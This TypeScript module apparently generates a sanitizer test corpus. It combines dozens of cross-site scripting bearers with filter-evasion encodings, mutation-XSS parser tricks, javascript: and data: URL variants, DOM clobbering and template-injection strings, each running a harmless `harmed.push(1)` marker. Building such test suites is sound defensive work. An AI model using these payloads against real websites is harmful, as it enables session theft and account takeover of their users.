/** HTML that runs a script where it is believed, one of each known class, spelt in many ways. Each would say `harmed.push(1)`. */

const CODE = 'harmed.push(1)';

/** Elements that run an event's code by themselves, or with what a person does. */
const BEARERS = [
  '<img src=x onerror=CODE>',
  '<img src onerror=CODE>',
  '<img srcset=x onerror=CODE>',
  '<image src=x onerror=CODE>',
  '<picture><source srcset=x><img onerror=CODE></picture>',
  '<video src=x onerror=CODE></video>',
  '<video><source onerror=CODE></video>',
  '<video poster=x onloadstart=CODE><source></video>',
  '<audio src=x onerror=CODE></audio>',
  '<input type=image src=x onerror=CODE>',
  '<input autofocus onfocus=CODE>',
  '<textarea autofocus onfocus=CODE></textarea>',
  '<select autofocus onfocus=CODE></select>',
  '<button popovertarget=x>b</button><p popover id=x onbeforetoggle=CODE>p</p>',
  '<p tabindex=1 autofocus onfocus=CODE>p</p>',
  '<p contenteditable autofocus onfocus=CODE>p</p>',
  '<details open ontoggle=CODE><summary>s</summary></details>',
  '<body onload=CODE>',
  '<body onpageshow=CODE>',
  '<frameset onload=CODE>',
  '<iframe onload=CODE></iframe>',
  '<object data=x onerror=CODE></object>',
  '<embed src=x onerror=CODE>',
  '<link rel=stylesheet href=x onerror=CODE>',
  '<style onload=CODE>a{}</style>',
  '<script src=x onerror=CODE></script>',
  '<marquee onstart=CODE>m</marquee>',
  '<svg onload=CODE>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<svg><set onbegin=CODE attributeName=x dur=1s>',
  '<svg><image href=x onerror=CODE>',
  '<svg><script>CODE</script>',
  '<svg><foreignObject><img src=x onerror=CODE></foreignObject>',
  '<math><mi onfocus=CODE tabindex=1 autofocus>m</mi>',
  '<p onmouseover=CODE onpointerenter=CODE onclick=CODE>p</p>',
  '<p style="animation:x" onanimationstart=CODE>p</p>',
  '<p style="transition:all 1s" ontransitionrun=CODE>p</p>',
  '<p onscroll=CODE onwheel=CODE onfocusin=CODE>p</p>',
  '<x-card onclick=CODE tabindex=1 autofocus onfocus=CODE>x</x-card>',
  '<script>CODE</script>',
  '<script type=module>CODE</script>',
];

/** Ways to write the same, past whoever looks for it by its letters. */
const SPELLINGS: ((html: string) => string)[] = [
  (html) => html.replaceAll('CODE', `"${CODE}"`),
  (html) => html.replaceAll('CODE', CODE.replace('(', '&#40;').replace(')', '&rpar;')),
  (html) => html.replaceAll('CODE', `'${[...CODE].map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('')}'`),
  (html) =>
    html
      .replace(/<(\w)/, (_, letter) => `<${letter.toUpperCase()}`)
      .replace(/on/g, 'oN')
      .replaceAll('CODE', CODE),
  (html) => html.replace(/ on/g, '/on').replaceAll('CODE', CODE),
  (html) => html.replace(/ on/g, '\n\f\ton').replace(/=CODE/g, ' =\n`').replaceAll('`', `"${CODE}"`),
  (html) => html.replace(/>$/, '').replaceAll('CODE', `"${CODE}"`),
  (html) => `<p title="${html.replaceAll('CODE', `'${CODE}'`)}">p`,
  (html) => `"><p x='${html.replaceAll('CODE', `"${CODE}"`)}`,
  (html) => `<<p>${html.replaceAll('CODE', CODE)}//`,
];

/** What takes a tree through the parser twice and comes out as another one. */
const TWICE = [
  '<math><mtext><table><mglyph><style><!--</style>IMG',
  '<math><mtext><table><mglyph><style><math>IMG',
  '<form><math><mtext></form><form><mglyph><style></math>IMG',
  '<svg></p><style><a id="</style>IMG">',
  '<svg><style><a title="</style>IMG">',
  '<svg><desc><table><style></desc>IMG',
  '<noscript><p title="</noscript>IMG">',
  '<textarea><p title="</textarea>IMG">',
  '<title><p title="</title>IMG">',
  '<xmp><p title="</xmp>IMG">',
  '<iframe><p title="</iframe>IMG">',
  '<noembed><p title="</noembed>IMG">',
  '<select><template><style><!--</style>IMG',
  '<table><a><svg><style></table>IMG',
  '<template>IMG</template>',
  '<template shadowrootmode=open>IMG</template>',
  '<!--><!-->IMG-->',
  '<!-- --!>IMG-->',
  '<![CDATA[>IMG]]>',
  '<?xml >IMG?>',
  '<svg><![CDATA[</svg>IMG]]>',
  '<math><annotation-xml encoding="text/html">IMG</annotation-xml>',
  `${'<p>'.repeat(600)}IMG`,
  `${'<b><p>'.repeat(100)}IMG`,
];

/** Places for an address. */
const ADDRESSED = [
  '<a href="URL">a</a>',
  '<a href="URL" target=_self>a</a>',
  '<svg><a xlink:href="URL"><text>a</text></a>',
  '<svg><a><animate attributeName=href values="URL"></animate><text>a</text></a>',
  '<math href="URL"><mi>m</mi></math>',
  '<form action="URL"><button>b</button></form>',
  '<button formaction="URL">b</button>',
  '<iframe src="URL"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<base href="URL"><a href="x">a</a>',
  '<area href="URL">',
  '<link rel=import href="URL">',
  '<p style="background:url(URL)">p</p>',
  '<style>@import "URL"</style>',
  '<svg><use href="URL"></use></svg>',
  '<a ping="URL" href="https://example.org/">a</a>',
];
const URLS = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` \u0001javascript:${CODE}`,
  `java&Tab;script:${CODE}`,
  `java\nscript:${CODE}`,
  `javascript&colon;${CODE}`,
  `&#106;avascript:${CODE}`,
  `javascript:%68armed.push(1)`,
  `javascript://https://example.org/%0a${CODE}`,
  `vbscript:${CODE}`,
  `data:text/html,&lt;script>${CODE}&lt;/script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFybWVkLnB1c2goMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  `view-source:javascript:${CODE}`,
  `blob:https://example.org/${CODE}`,
  `filesystem:https://example.org/${CODE}`,
  `https:javascript:${CODE}//`,
];

/** Names that get in the way of whoever asks a tree, and what templates of others would read. */
const OTHERS = [
  '<form id=attributes><input name=attributes><input name=parentNode><input name=removeChild><img src=x onerror=CODE></form>',
  '<form><input name=nodeName><input name=childNodes><img src=x onerror=CODE></form>',
  '<a id=document></a><a id=document name=body href="javascript:CODE">a</a>',
  '<p id=__proto__ name=constructor class=card is=x-card slot=x part=x>p</p>',
  '{{constructor.constructor("CODE")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody else's template would run.
  '${CODE}',
  '<% CODE %>',
  '<p v-html="CODE" x-init="CODE" ng-init="CODE" data-bind="CODE">p</p>',
  '+ADw-script+AD4-CODE+ADw-/script+AD4-',
  '\ufeff<script>CODE</script>',
  '<scr\u0000ipt>CODE</scr\u0000ipt>',
  '<scr<script>ipt>CODE</script>',
  '\u202e<script>CODE</script>',
  '＜script＞CODE＜/script＞',
  '<style>*{background:expression(CODE)}</style><p style="-moz-binding:url(x)">p</p>',
  '[a](javascript:CODE) ![a](x"onerror="CODE)',
];

const img = `<img src=x onerror="${CODE}">`;

export const PAYLOADS: readonly string[] = [
  ...BEARERS.flatMap((html) => SPELLINGS.map((spell) => spell(html))),
  ...TWICE.flatMap((html) => [
    html.replace('IMG', img),
    html.replace('IMG', img.replaceAll('<', '&lt;')),
    html.replace('IMG', `<script>${CODE}</script>`),
  ]),
  ...ADDRESSED.flatMap((html) => URLS.map((url) => html.replace('URL', url))),
  ...OTHERS.map((html) => html.replaceAll('CODE', CODE)),
];
export const BAD_URLS: readonly string[] = URLS;
